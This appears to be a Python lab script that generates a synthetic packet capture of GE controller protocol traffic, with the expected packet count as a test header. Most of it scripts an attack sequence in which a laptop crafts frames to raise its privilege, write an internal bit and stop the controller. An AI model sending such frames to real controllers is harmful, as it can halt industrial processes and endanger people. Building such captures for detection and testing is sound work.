"""An operator station reads registers of a GE controller; a laptop raises its privilege, writes an internal bit and
stops the controller.

kind: S
expect: tcp.port == 18245 && tcp.len > 0 => 12
"""

import struct

from tools.lab import output
from tools.session import Tape, TcpSession, hmi, laptop, plc


def request(sequence, service, selector=0, offset=0, length=0, data=b""):
    """[DEN] 3.2: 56 octets with sequence number, mailbox type, mailboxes, service, memory."""
    made = bytearray(56)
    made[0], made[2], made[9], made[17], made[30], made[31] = 2, sequence, 1, 1, sequence, 0xC0
    made[36:42] = b"\x10\x0e\0\0\x01\x01"
    made[42:48] = struct.pack("<BBHH", service, selector, offset, length)
    made[48 : 48 + len(data)] = data
    return bytes(made)


def response(sequence, text=b"", status=0):
    made = bytearray(56)
    made[0], made[2], made[17], made[30] = 3, sequence, 1, sequence
    made[4:6] = struct.pack("<H", len(text))
    made[31] = 0xD1 if status else 0x94 if text else 0xD4
    made[40:44] = bytes([1, 1, status, 0])
    made[50:56] = b"\xff\x02\x30\x00\x1c\x00"
    return bytes(made) + text


tape = Tape()
tape.resolve(hmi, plc)
regular = TcpSession(tape, hmi, plc, 18245, 49390)
regular.open()
regular.exchange(bytes(56), b"\x01" + bytes(55), settle=True)
regular.exchange(request(1, 0x04, 0x08, 99, 4), response(1, struct.pack("<4H", 10, 20, 30, 40)), settle=True)
tape.resolve(laptop, plc)
stranger = TcpSession(tape, laptop, plc, 18245, 49391)
stranger.open()
stranger.exchange(bytes(56), b"\x01" + bytes(55), settle=True)
stranger.exchange(request(1, 0x21), response(1), settle=True)
stranger.exchange(request(2, 0x07, 0x4C, 862, 1, b"\x01"), response(2), settle=True)
stranger.exchange(request(3, 0x23, 1), response(3, status=2), settle=True)
stranger.close()
regular.close()
tape.save(output())
